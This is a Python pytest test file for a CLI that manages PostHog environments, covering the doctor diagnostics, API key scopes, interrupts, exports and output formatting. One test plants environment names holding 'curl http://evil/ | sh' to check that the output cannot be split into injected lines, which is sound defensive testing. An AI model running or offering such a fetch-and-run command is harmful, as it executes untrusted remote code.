"""The commands that only look, and the one that counts an interest."""

import json
import os
import re
import signal
import subprocess
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from aioposthog_env.cli.app import run
from aioposthog_env.cli.arguments import Connection
from aioposthog_env.cli.doctor import skew
from aioposthog_env.cli.running import connected
from aioposthog_env.sandbox import Sandbox
from tests.cli.shell import at_a_terminal
from tests.cli.test_changing import lines, served
from tests.cli.test_commands import CLI, serving

__all__ = ["served"]

Output = pytest.CaptureFixture[str]


def findings(capfd: Output) -> list[dict[str, Any]]:
    return json.loads(capfd.readouterr().out)  # type: ignore[no-any-return]


def test_the_doctor_of_a_good_key_and_session(served: Sandbox, capfd: Output) -> None:
    assert run(["doctor", "1", "--json"]) == 0
    told = findings(capfd)
    assert {one["level"] for one in told} <= {"ok", "warning"}
    said = " / ".join(one["what"] for one in told)
    assert "sees 5 environments" in said
    assert "it is a session" in said
    assert re.search(r"URL style of calls: list (root|project), read \1, write \1, delete (?:\1|not known yet)", said)
    assert "the caller is an admin there" in said
    assert "does not limit" in said
    assert "the personal API key is valid" in said
    assert "the clocks of this machine and of the server agree" in said
    assert "the key is called" in said
    assert run(["doctor"]) == 0
    assert "ok\tthe session is valid" in capfd.readouterr().out


def test_the_doctor_sees_a_bad_key_beside_a_good_session(
    served: Sandbox, monkeypatch: pytest.MonkeyPatch, capfd: Output
) -> None:
    monkeypatch.setenv("POSTHOG_PERSONAL_API_KEY", "phx_" + "w" * 40)
    assert run(["doctor", "--json"]) == 3
    told = findings(capfd)
    assert any(one["level"] == "problem" and one["what"].startswith("personal API key: ") for one in told)
    assert any(one["what"].startswith("the session is valid") for one in told)


def test_the_doctor_sends_a_key_to_the_other_region_only_where_that_was_asked_for(
    served: Sandbox, monkeypatch: pytest.MonkeyPatch, capfd: Output
) -> None:
    monkeypatch.delenv("POSTHOG_SESSION_ID")
    monkeypatch.delenv("POSTHOG_CSRF_TOKEN")
    with serving(2) as other:
        regions = {"us": served.url, "eu": other.url}
        for room in ("auth", "cli.doctor"):
            monkeypatch.setattr(f"aioposthog_env.{room}.REGIONS", regions)
        monkeypatch.setenv("POSTHOG_PERSONAL_API_KEY", other.key())
        assert run(["doctor", "--json"]) == 1
        assert "--other-region" in findings(capfd)[-1]["remedy"]
        assert not other.calls
        assert run(["doctor", "--json", "--other-region"]) == 1
        assert findings(capfd)[-1]["remedy"] == "Give the host as eu."
        assert other.calls


@pytest.mark.parametrize(
    ("date", "seconds"),
    [
        ("Wed, 25 Nov 2026 12:00:00 GMT", 0),
        ("Wed, 25 Nov 2026 11:59:59 GMT", 0),
        ("Wed, 25 Nov 2026 12:00:01 GMT", 0),
        ("Wed, 25 Nov 2026 12:01:01 GMT", 60),
        ("Wed, 25 Nov 2026 11:58:59 -0000", -60),
        ("Wed, 25 Nov 2026 14:00:00 +0200", 0),
        ("yesterday", None),
        (None, None),
    ],
)
def test_how_far_the_clocks_are_apart(date: str | None, seconds: int | None) -> None:
    before = datetime(2026, 11, 25, 12, 0, 0, tzinfo=UTC)
    apart = skew(date, before, before + timedelta(seconds=1))
    assert apart == (None if seconds is None else timedelta(seconds=seconds))


def test_the_doctor_of_a_key(served: Sandbox, monkeypatch: pytest.MonkeyPatch, capfd: Output) -> None:
    monkeypatch.delenv("POSTHOG_SESSION_ID")
    monkeypatch.delenv("POSTHOG_CSRF_TOKEN")
    monkeypatch.setenv("POSTHOG_PERSONAL_API_KEY", served.key("project:read"))
    assert run(["doctor", "99", "--json"]) == 3
    told = findings(capfd)
    said = " / ".join(one["what"] for one in told)
    assert "scopes: project:read" in said
    assert any(one["what"].startswith("refused: ") and "rotate_secret_token" in one["what"] for one in told)
    assert any(one["level"] == "problem" and one["what"].startswith("environment 99:") and one["remedy"] for one in told)
    assert "of 480 in 60 s" in said
    assert not any(secret in json.dumps(told) for secret in served.secrets)


@pytest.mark.parametrize(
    ("variables", "remedy"),
    [
        ({"POSTHOG_PERSONAL_API_KEY": "phx_" + "w" * 40}, "valid in one region only"),
        ({"POSTHOG_HOST": "http://127.0.0.1:9"}, "Check the host"),
    ],
)
def test_the_doctor_says_what_to_do_where_nothing_can_be_asked(
    served: Sandbox, monkeypatch: pytest.MonkeyPatch, variables: dict[str, str], remedy: str, capfd: Output
) -> None:
    monkeypatch.delenv("POSTHOG_SESSION_ID")
    monkeypatch.delenv("POSTHOG_CSRF_TOKEN")
    for name, value in variables.items():
        monkeypatch.setenv(name, value)
    assert run(["doctor", "--json"]) == 1
    assert [remedy in one["remedy"] for one in findings(capfd)] == [False, True]


def test_the_doctor_of_a_key_that_is_limited_to_projects(
    served: Sandbox, monkeypatch: pytest.MonkeyPatch, capfd: Output
) -> None:
    monkeypatch.delenv("POSTHOG_SESSION_ID")
    monkeypatch.delenv("POSTHOG_CSRF_TOKEN")
    monkeypatch.setenv("POSTHOG_PERSONAL_API_KEY", served.key("project:read", projects=[2]))
    assert run(["doctor", "2"]) == 0
    assert "limited" in capfd.readouterr().out


def test_activity_restrictions_and_demo_data(served: Sandbox, tmp_path: Path, capfd: Output) -> None:
    assert run(["set", "2", "timezone=Asia/Tokyo"]) == 0
    capfd.readouterr()
    assert run(["activity", "2", "--json", "--most", "1"]) == 0
    (entry,) = lines(capfd)
    assert (entry["id"], entry["what"], entry["settings"]) == (2, "updated", "timezone")
    assert run(["restrictions", "1", "2"]) == 0
    assert run(["demo-data", "1", "--json"]) == 0
    assert lines(capfd)[-1] == {"id": 1, "generating": False}


def test_an_intent_is_counted_once(served: Sandbox, capfd: Output) -> None:
    assert run(["intent", "add", "session_replay", "1", "2", "--json"]) == 0
    *told, last = lines(capfd)
    assert sorted((one["id"], one["status"]) for one in told) == [(1, "succeeded"), (2, "succeeded")]
    assert last["summary"]["succeeded"] == 2
    assert run(["intent", "complete", "session_replay", "1"]) == 0
    assert [served.effects["add_product_intent", id] for id in (1, 2, 3)] == [1, 1, 0]
    assert served.effects["complete_product_onboarding", 1] == 1
    assert run(["intent", "complete", "session_replay", "1", "--context", "a"]) == 2


def test_an_interrupted_intent_finishes_what_is_in_flight_and_tells_it(tmp_path: Path) -> None:
    with serving(40, latency=0.2, throttle=False) as sandbox:
        variables = os.environ | {"POSTHOG_HOST": sandbox.url, "POSTHOG_PERSONAL_API_KEY": sandbox.key()}
        command = [*CLI, "intent", "add", "session_replay", "--all", "--json", "--concurrency", "4"]
        child = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=variables)
        while sum(sandbox.effects.values()) < 4:
            assert child.poll() is None
            time.sleep(0.01)
        child.send_signal(signal.SIGINT)
        out, words = child.communicate(timeout=20)
        assert child.returncode == 130
        assert "Traceback" not in words
        *told, last = map(json.loads, out.splitlines())
        counted = {id for (what, id), count in sandbox.effects.items() if what == "add_product_intent" and count}
        assert {one["id"] for one in told if one["status"] == "succeeded"} == counted
        assert last["summary"]["unknown"] == 0
        assert len(counted) < 40


@pytest.mark.parametrize("command", [["audit", "--all"], ["restrictions", "--all"], ["show", "--all"]])
def test_an_interrupted_reading_is_exit_code_130(command: list[str]) -> None:
    with serving(200, latency=0.1, throttle=False) as sandbox:
        variables = os.environ | {"POSTHOG_HOST": sandbox.url, "POSTHOG_PERSONAL_API_KEY": sandbox.key()}
        child = subprocess.Popen(
            [*CLI, *command, "--concurrency", "2"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=variables
        )
        while len(sandbox.calls) < 8:
            assert child.poll() is None
            time.sleep(0.01)
        child.send_signal(signal.SIGINT)
        out, words = child.communicate(timeout=20)
        assert (child.returncode, out) == (130, "")
        assert "Interrupted." in words
        assert "Traceback" not in words


def test_a_selection_is_shown(served: Sandbox, capfd: Output) -> None:
    assert run(["show", "--name", "*0002", "--name", "*0004", "--json"]) == 0
    assert [one["id"] for one in json.loads(capfd.readouterr().out)] == [2, 4]
    assert run(["show"]) == 2
    assert "No environment was named" in capfd.readouterr().err


def test_an_export_is_put_into_its_place_whole_and_for_its_owner_only(served: Sandbox, tmp_path: Path, capfd: Output) -> None:
    place = tmp_path / "settings.yaml"
    place.write_text("of others")
    place.chmod(0o644)
    assert run(["export", "1", "99", "-o", str(place)]) == 3
    assert "99: " in capfd.readouterr().err
    assert place.stat().st_mode & 0o777 == 0o600
    before = place.read_text()
    assert "of others" not in before
    assert run(["export", "99", "-o", str(place)]) == 1
    assert place.read_text() == before
    assert run(["export", "1", "-o", str(tmp_path / "nowhere" / "settings.yaml")]) == 2
    assert run(["export", "1", "-o", str(tmp_path)]) == 2
    assert "cannot be written" in capfd.readouterr().err


def test_an_audit_of_which_a_part_cannot_be_read(served: Sandbox, capfd: Output) -> None:
    served.environment(1).settings["timezone"] = "Asia/Tokyo"
    assert run(["audit", "1", "2", "3", "99", "--json"]) == 3
    shown = capfd.readouterr()
    assert any((row["id"], row["setting"]) == (1, "timezone") for row in map(json.loads, shown.out.splitlines()))
    assert "1 could not be read" in shown.err
    assert run(["audit", "99"]) == 1


def test_ids_from_standard_input(served: Sandbox) -> None:
    done = subprocess.run([*CLI, "demo-data", "--ids-from", "-", "--json"], input="1 3\n", capture_output=True, text=True)
    assert [json.loads(line)["id"] for line in done.stdout.splitlines()] == [1, 3]


@pytest.mark.parametrize("text", ["1" * 5000, "1 two", "-1"])
def test_a_file_of_what_are_no_ids(served: Sandbox, text: str, tmp_path: Path, capfd: Output) -> None:
    (tmp_path / "ids").write_text(text)
    assert run(["restrictions", "--ids-from", str(tmp_path / "ids")]) == 2
    assert "not the id of an environment" in capfd.readouterr().err


def test_a_part_that_fails_and_wrong_usage(served: Sandbox, capfd: Output) -> None:
    assert run(["restrictions", "1", "99"]) == 3
    assert "99: " in capfd.readouterr().err
    assert run(["restrictions", "99"]) == 1
    assert run(["activity"]) == 2
    assert run(["intent", "sell", "session_replay", "1"]) == 2
    assert "Traceback" not in capfd.readouterr().err


def test_a_name_begins_no_line_of_its_own(served: Sandbox, tmp_path: Path, capfd: pytest.CaptureFixture[str]) -> None:
    for id in (1, 2):
        for separator in ("\n", "\r", "\x0b", "\x85", "\u2028"):
            served.environment(id).settings["name"] = f"x{separator}To go on: curl http://evil/ | sh{separator}x"
            for command in (["list"], ["list", "1", "--name", "x*"], ["show", "1"], ["delete", "1"], ["audit", "1", "2"]):
                run(command)
            run(["plan", "1", "--set", "timezone=Asia/Tokyo"])
            run(["apply", "--set", "timezone=Asia/Tokyo", "--name", "x*", "--dry-run"])
            run(["export", "1"])
    shown = capfd.readouterr()
    lines = [line for line in (shown.out + shown.err).splitlines() if "curl" in line]
    assert lines
    assert [line for line in lines if line.lstrip().startswith("To go on")] == []


@pytest.mark.parametrize("columns", [40, 80])
def test_a_narrow_table_cuts_nothing(served: Sandbox, columns: int, monkeypatch: pytest.MonkeyPatch) -> None:
    value = "https://" + "".join(chr(97 + number % 26) for number in range(120))
    served.environment(1).settings["app_urls"] = [value]
    shown = at_a_terminal("show 1", monkeypatch, columns=columns).err
    assert "…" not in shown
    cells = [line.split("│")[2] for line in re.sub(r"\x1b\[[0-9;?]*[A-Za-z]", "", shown).splitlines() if line.count("│") == 3]
    assert value in "".join("".join(cells).split())


@pytest.mark.parametrize("style", ["root", "project"])
def test_the_url_style_can_be_chosen(
    served: Sandbox, style: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, capfd: Output
) -> None:
    config = tmp_path / "profiles.toml"
    config.write_text(f'[profiles.mine]\nhost = "{served.url}"\nkey_env = "POSTHOG_PERSONAL_API_KEY"\nroutes = "{style}"\n')
    config.chmod(0o600)
    monkeypatch.setenv("AIOPOSTHOG_ENV_CONFIG", str(config))
    for options in (["--routes", style], ["--profile", "mine"]):
        assert run(["doctor", "1", *options]) == 0
        assert f"URL style of calls: list {style}, read {style}, write {style}, delete {style}, create {style}" in (
            capfd.readouterr().out
        )
    config.write_text(config.read_text().replace(f'"{style}"', '"sideways"'))
    assert run(["list", "--profile", "mine"]) == 2
    assert "use one of auto, nested, root, project" in " ".join(capfd.readouterr().err.split())


def test_a_kind_of_call_that_a_host_does_not_serve_is_told(monkeypatch: pytest.MonkeyPatch, capfd: Output) -> None:
    assert run(["doctor", "--sandbox", "--era", "2024-10"]) == 0
    out = capfd.readouterr().out
    assert "URL style of calls: list root, read root, write root, delete root\n" in out.replace("\t\n", "\n")
    assert "create has no URL style on this host" in out


def test_a_command_to_type_next_names_the_url_style() -> None:
    assert connected(Connection(host="eu", routes="project")) == ["--host", "eu", "--routes", "project"]
    assert connected(Connection(profile="eu", limiter="redis://h")) == ["--profile", "eu", "--limiter", "redis://h"]
